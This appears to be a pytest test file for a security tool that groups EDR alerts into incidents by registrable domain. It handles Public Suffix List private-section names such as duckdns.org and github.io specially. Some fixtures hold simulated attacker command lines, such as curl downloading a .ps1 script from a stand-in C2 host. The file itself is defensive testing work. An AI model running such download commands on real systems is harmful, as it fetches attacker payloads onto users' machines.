"""Registrable domains as correlation keys: the same owner is one weak key; names the Public Suffix List's
private section hands to strangers (dynamic DNS, hosting) never relate; and one shared owner alone never
joins an incident."""

from __future__ import annotations

from typing import Any

import pytest

from flows.models import Alert
from flows.store import GroupingRules, IncomingAlert, Outcome, Store
from flows.store._keys import Key, KeyFilter, weighted_keys
from flows.warninglists import registrable_domain


def _doc(
    uid: str, observables: tuple[str, ...] = (), cmd: str | None = None, host: str = "WS-1"
) -> dict[str, Any]:
    return {
        "class_uid": 2004,
        "severity_id": 3,
        "metadata": {"tenant_uid": "demo", "product": {"name": "Demo EDR"}, "uid": uid},
        "finding_info": {"uid": uid, "title": "Finding", "analytic": {"uid": f"rule-{uid}"}},
        "device": {"hostname": host},
        "evidences": [{"process": {"name": "cmd.exe", "cmd_line": cmd}}] if cmd else [],
        "observables": [{"name": "dst", "type_id": 1, "value": value} for value in observables],
    }


def _keys(*observables: str, keep: KeyFilter | None = None, cmd: str | None = None) -> dict[str, Key]:
    alert = Alert.model_validate(_doc("a", observables, cmd))
    return {k.value: k for k in weighted_keys(alert, alert.indicators(), keep or KeyFilter())}


def _domain_keys(keys: dict[str, Key]) -> set[str]:
    return {value for value in keys if value.startswith("d:")}


@pytest.mark.parametrize(
    ("name", "owner"),
    [
        ("a.evil-c2.com", "evil-c2.com"),
        ("evil-c2.com", "evil-c2.com"),
        ("WWW.Evil-C2.com.", "evil-c2.com"),
        ("x.y.evil-shop.co.uk", "evil-shop.co.uk"),  # ICANN section: co.uk is a suffix
        ("x.duckdns.org", "x.duckdns.org"),  # private section: each dynamic-DNS name is its own owner
        ("bad.github.io", "bad.github.io"),
        ("a.b.blogspot.com", "b.blogspot.com"),
        ("duckdns.org", None),  # a public suffix owns nothing
        ("co.uk", None),
        ("host.example", None),  # unknown to the list
    ],
)
def test_registrable_domain_reads_both_sections_of_the_public_suffix_list(
    name: str, owner: str | None
) -> None:
    assert registrable_domain(name) == owner


def test_names_under_one_owner_share_one_weak_key_anchored_on_the_owner() -> None:
    first, second = _keys("a.evil-c2.com"), _keys("b.evil-c2.com")

    assert _domain_keys(first) == _domain_keys(second) == {"d:evil-c2.com"}
    shared = first["d:evil-c2.com"]
    assert not shared.strong and shared.anchor == "evil-c2.com"
    # The exact name is still the strong key, and counts as the same owner when weak keys are counted.
    assert first["i:domain:a.evil-c2.com"].strong and first["i:domain:a.evil-c2.com"].anchor == "evil-c2.com"


def test_a_url_gives_the_owner_of_its_host() -> None:
    keys = _keys(cmd="curl http://cdn.evil-c2.com/a.ps1 -o a.ps1")

    assert _domain_keys(keys) == {"d:evil-c2.com"}
    assert {k.anchor for k in keys.values() if not k.value.startswith("h:")} == {"evil-c2.com"}


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("x.duckdns.org", "y.duckdns.org"),  # dynamic DNS: two strangers
        ("bad.github.io", "victim.github.io"),  # hosting: two accounts
        ("a.blogspot.com", "b.blogspot.com"),
    ],
)
def test_names_the_private_section_hands_to_strangers_relate_nothing(one: str, other: str) -> None:
    first, second = _keys(one), _keys(other)

    assert _domain_keys(first) == {f"d:{one}"} and _domain_keys(second) == {f"d:{other}"}
    assert not (set(first) & set(second)) - {"h:ws-1|r:rule-a"}


@pytest.mark.parametrize(
    "name",
    [
        "mail.google.com",  # a major domain: every network talks to it
        "d111111abcdef8.cloudfront.net",  # shared hosting the major list names: never a key
        "app.corp-acme.com",  # the tenant's own domain
        "printer.local",  # private use
        "45.33.32.156",
    ],
)
def test_an_owner_the_lists_exclude_is_no_key(name: str) -> None:
    keep = KeyFilter.of(["corp-acme.com"])

    assert _domain_keys(_keys(name, keep=keep)) == set()


def _ingest(store: Store, *documents: dict[str, Any]) -> list[tuple[Outcome, str]]:
    items = [IncomingAlert(Alert.model_validate(d), d) for d in documents]
    return [(a.outcome, a.incident_id) for a in store.ingest(items, GroupingRules())]


def test_one_shared_owner_alone_relates_but_never_joins(store: Store) -> None:
    [(_, first)] = _ingest(store, _doc("a", ("a.evil-c2.com",)))

    [(outcome, incident_id)] = _ingest(store, _doc("b", ("b.evil-c2.com",), host="WS-2"))

    assert incident_id != first and outcome is Outcome.LINKED  # its own run; related for the analyst
    view = store.incident(incident_id)
    assert view is not None and view.related_incident_id == first


def test_the_same_owner_and_another_shared_value_join(store: Store) -> None:
    [(_, first)] = _ingest(store, _doc("a", cmd="curl http://a.evil-c2.com/x && ping 45.33.32.156"))

    [(outcome, incident_id)] = _ingest(
        store, _doc("b", cmd="nslookup b.evil-c2.com & ping 45.33.32.156", host="WS-2")
    )

    assert (outcome, incident_id) == (Outcome.ATTACHED, first)


def test_two_strangers_on_one_dynamic_dns_service_stay_apart(store: Store) -> None:
    [(_, first)] = _ingest(store, _doc("a", ("x.duckdns.org",)))

    [(outcome, incident_id)] = _ingest(store, _doc("b", ("y.duckdns.org",), host="WS-2"))

    assert incident_id != first and outcome is Outcome.CREATED
    view = store.incident(incident_id)
    assert view is not None and view.related_incident_id is None
